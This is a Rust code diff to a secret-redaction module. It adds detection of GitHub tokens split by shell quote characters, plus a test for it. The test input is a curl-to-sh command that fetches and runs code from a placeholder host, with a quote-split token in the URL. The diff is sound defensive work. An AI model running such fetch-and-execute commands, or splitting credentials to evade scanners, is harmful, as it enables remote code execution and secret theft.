@@ -53,6 +53,7 @@ pub fn secrets_in(text: &str) -> Vec<Secret> {
         let from = [0, glued(&text[..at], word)].into_iter().find(|from| is_one(&word[*from..]));
         all.extend(from.map(|from| Secret { start: at + from, end, shown: SHOWN }));
     }
+    in_parts(text, &mut all);
     for (at, _) in text.match_indices(BEGIN) {
         let name = &text[at + BEGIN.len()..];
         let name = name[..name.floor_char_boundary(64)].split_once("-----").map(|(name, _)| name);
@@ -62,6 +63,29 @@ pub fn secrets_in(text: &str) -> Vec<Secret> {
     }
     all.sort_unstable();
     all
+}
+
+/// Tokens that are written in parts, as `gh''p_…`: to a shell they are whole.
+fn in_parts(text: &str, all: &mut Vec<Secret>) {
+    // Where in the joined text something was left out, in order.
+    let (mut joined, mut left_out) = (String::with_capacity(text.len()), Vec::new());
+    for c in text.chars() {
+        if matches!(c, '\'' | '"') {
+            left_out.push(joined.len());
+        } else {
+            joined.push(c);
+        }
+    }
+    if left_out.is_empty() {
+        return;
+    }
+    let before = |at: usize| left_out.partition_point(|place| *place <= at);
+    for (at, word) in words(&joined).filter(|(_, word)| word.len() >= WHOLE) {
+        let last = at + word.len() - 1;
+        if before(at) < before(last) && token(word).is_some() {
+            all.push(Secret { start: at + before(at), end: last + before(last) + 1, shown: SHOWN });
+        }
+    }
 }
 
 /// How much of a word's beginning is the rest of a letter that is written out: `\n`, `\x0a`, `%20`.
@@ -252,6 +276,19 @@ mod tests {
             shown("ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"),
             "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
         );
+    }
+
+    #[test]
+    fn attack_a_token_in_parts_is_one() {
+        let one = token_of("9fK2mQ7");
+        for between in ["''", "\"\"", "'\"'\"'"] {
+            let text = format!("é 'curl' \"https://{}{between}{}@h/x\" | sh", &one[..12], &one[12..]);
+            let wanted = format!("é 'curl' \"https://ghp_{}@h/x\" | sh", "*".repeat(36 + between.len()));
+            assert_eq!(shown(&text), wanted);
+            assert_eq!(Secrets::default().without(&text), "é 'curl' \"https://ghp_****@h/x\" | sh");
+        }
+        let beside = format!("'{one}','b' \"{one}\"");
+        assert_eq!(shown(&beside), format!("'ghp_{0}','b' \"ghp_{0}\"", "*".repeat(36)));
     }
 
     #[test]
